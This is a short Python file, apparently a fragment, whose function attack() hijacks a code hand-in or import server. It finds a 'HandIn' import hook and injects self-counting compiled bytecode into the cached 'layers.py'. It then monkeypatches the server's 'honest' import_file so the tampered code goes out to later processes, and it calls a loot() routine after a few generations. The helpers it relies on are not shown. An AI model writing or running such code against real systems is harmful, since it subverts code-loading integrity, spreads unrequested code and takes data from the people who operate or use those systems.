import marshal
import sys

import numpy

_MARK = "-".join(("mark", "of", "an", "earlier", "process"))


def attack():
    serve, wire, here = worker()
    number = globals().get("_count", 0) + 1
    if number > 2:
        loot(f"this is process {number}")
    hand_in = here["server"].hand_in or [each for each in sys.meta_path if type(each).__name__ == "HandIn"][0]
    text = f"_count = {number}\n" + hand_in.sources["layers.py"]
    code = marshal.dumps(compile(text, "layers.py", "exec"))
    honest = serve.Server.import_file

    def import_file(self, path):
        return {**honest(self, path), "compiled": {path: numpy.frombuffer(code, numpy.uint8)}}

    serve.Server.import_file = import_file
    hand_in.compiled["layers.py"] = numpy.frombuffer(code, numpy.uint8)
